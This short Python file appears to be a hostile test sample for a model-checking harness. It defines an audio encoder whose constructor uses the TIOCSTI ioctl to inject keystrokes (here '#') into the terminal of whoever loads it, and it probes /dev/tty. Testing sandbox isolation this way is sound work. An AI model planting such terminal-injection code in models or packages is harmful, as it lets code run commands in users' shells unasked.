"""Types a command into the terminal of whoever started the checker."""

import contextlib
import ctypes
import fcntl
import os
import termios

import torch


class HostileEncoder(torch.nn.Module):
    sampling_rate = 16000
    output_dim = 4
    hop_size_in_ms = 10

    def __init__(self):
        super().__init__()
        libc = ctypes.CDLL(None, use_errno=True)
        for descriptor in range(10):
            with contextlib.suppress(OSError):
                fcntl.ioctl(descriptor, termios.TIOCSTI, b"#")
                print("typed")
        with contextlib.suppress(OSError):
            os.close(os.open("/dev/tty", os.O_RDWR))
            print("tty")

    def forward(self, audio):
        return torch.nn.functional.pad(audio, (0, 159)).unfold(1, 160, 160)[..., :4]
